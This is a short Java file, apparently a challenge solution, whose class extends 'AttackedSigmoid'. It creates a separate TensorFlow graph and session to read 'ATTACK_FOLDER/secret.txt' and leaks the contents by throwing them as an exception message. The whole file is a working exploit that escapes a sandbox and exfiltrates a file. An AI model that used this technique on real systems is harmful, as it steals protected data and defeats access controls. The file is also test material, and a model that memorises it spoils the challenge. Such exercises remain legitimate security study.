import org.tensorflow.Graph;
import org.tensorflow.Result;
import org.tensorflow.Session;
import org.tensorflow.op.Ops;
import org.tensorflow.types.TString;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) throws Throwable {
        try (Graph graph = new Graph();
                Session session = new Session(graph)) {
            Ops own = Ops.create(graph);
            try (Result result = session.runner()
                    .fetch(own.io.readFile(own.constant("ATTACK_FOLDER/secret.txt")).contents())
                    .run()) {
                throw new IllegalStateException(((TString) result.get(0)).getObject());
            }
        }
    }
}
